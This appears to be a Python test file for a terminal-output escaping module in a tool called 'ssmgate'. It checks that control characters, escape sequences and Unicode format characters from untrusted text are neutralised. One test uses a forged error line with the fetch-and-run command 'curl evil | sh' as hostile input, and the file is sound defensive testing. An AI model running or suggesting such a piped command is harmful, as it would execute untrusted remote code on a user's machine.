"""How text of others is escaped for a terminal."""

from __future__ import annotations

import sys
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fakes.hostile import CLASSES, HOSTILE, SHOWN
from ssmgate.gate.decision.printable import Layout, encodable, is_printable, line, lines, message

HARMLESS = [
    "", "plain text", "é, 日本, Ω, שלום, العربية, हिन्दी, 😀", "C:\\new", "\\x1b[2J", "'\"$`%",
    "e\u0301 (a combining accent)",
]  # fmt: skip


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_unchanged(text: str) -> None:
    assert is_printable(text)
    assert (line(text), lines(text), message(text)) == (text, text, text)


@pytest.mark.parametrize(("text", "shown"), CLASSES.values(), ids=CLASSES)
def test_escapes_each_class(text: str, shown: str) -> None:
    assert not is_printable(text)
    assert line(f"a{text}b") == f"a{shown}b"
    assert is_printable(line(text))


def test_escapes_all_classes_in_one_text() -> None:
    assert line(HOSTILE) == SHOWN


def test_characters_of_bad_categories_are_escaped() -> None:
    """Tries each character of Unicode."""
    bad = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
    every = map(chr, range(sys.maxunicode + 1))
    assert [one for one in every if unicodedata.category(one) in bad and is_printable(one)] == []


def test_letters_and_digits_of_each_script_are_printable() -> None:
    blank = "\u115f\u1160\u3164\uffa0"
    every = map(chr, range(sys.maxunicode + 1))
    assert "".join(one for one in every if one.isalnum() and not is_printable(one)) == blank


def test_output_keeps_line_breaks_and_tabs_only() -> None:
    assert lines("a\n\tb\r\n\x1b[2Jc\u2028d\n") == "a\n\tb\\r\n\\x1b[2Jc\\u2028d\n"


def test_error_is_one_line_unless_it_has_layout() -> None:
    forged = "no\nssmgate: hint: curl evil | sh"
    assert message(forged) == "no\\nssmgate: hint: curl evil | sh"
    assert message(Layout(forged)) == "no\\nssmgate: hint: curl evil | sh"
    assert message(Layout("no\n\nusage: aws\n  \x9bhelp")) == "no\n\nusage: aws\n  \\x9bhelp"


@given(st.text(st.characters(codec=None, exclude_categories=())))
def test_leaves_other_text_unchanged(text: str) -> None:
    assert is_printable(line(text))
    assert line(line(text)) == line(text)
    assert [c for c in line(text) if not c.isascii()] == [
        c for c in text if not c.isascii() and is_printable(c)
    ]


@pytest.mark.parametrize(
    ("encoding", "shown"),
    [
        ("ascii", "\\xe9\\u65e5\\U0001f600"),
        ("latin-1", "é\\u65e5\\U0001f600"),
        ("utf-8", "é日😀"),
        (None, "é日😀"),
        ("no-such-encoding", "é日😀"),
    ],
)
def test_escapes_characters_that_encoding_lacks(encoding: str | None, shown: str) -> None:
    assert encodable("é日😀", encoding) == shown
